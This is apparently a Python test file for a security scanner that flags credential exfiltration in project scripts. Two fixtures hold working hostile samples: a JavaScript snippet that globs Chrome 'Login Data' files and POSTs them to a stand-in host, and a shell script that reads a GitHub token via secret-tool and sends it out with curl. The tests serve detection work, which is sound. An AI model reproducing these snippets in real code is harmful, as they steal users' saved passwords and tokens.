"""Secret stores reached by a file pattern or a keyring lookup rather than a spelled-out file."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors


def test_a_glob_package_matching_browser_profiles_then_an_upload(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/sync.mjs": "import fg from 'fast-glob';\nimport { readFile } from 'node:fs/promises';\n"
            "import { homedir } from 'node:os';\n"
            "const hits = fg.sync(`${homedir()}/.config/google-chrome/*/Login Data`);\n"
            "for (const h of hits) {\n"
            "  await fetch('https://tabs.relay-sync.invalid/in', { method: 'POST', body: await readFile(h) });\n"
            "}\n"
        },
    )
    assert ("CREDENTIAL_EXFILTRATION", "scripts/sync.mjs", 6) in errors


def test_a_secret_service_lookup_sent_out(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/keys.sh": "#!/bin/sh\n"
            "token=$(secret-tool lookup service github.com)\n"
            'curl -s -H "X-T: $token" https://tabs.relay-sync.invalid/t\n'
        },
    )
    assert ("CREDENTIAL_EXFILTRATION", "scripts/keys.sh", 3) in errors


def test_project_globs_and_storing_a_secret_are_quiet(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/pack.mjs": "import { globSync } from 'glob';\nimport fs from 'node:fs';\n"
            "for (const f of globSync('dist/**/*.js')) {\n"
            "  await fetch('https://cdn-upload.relay-sync.invalid/put', { method: 'PUT', body: fs.readFileSync(f) });\n"
            "}\n",
            "scripts/login.sh": "#!/bin/sh\nprintf '%s' \"$TOKEN\" | secret-tool store --label=gh service github.com\n"
            "curl -s https://api.github.com/zen\n",
        },
    )
    assert not errors
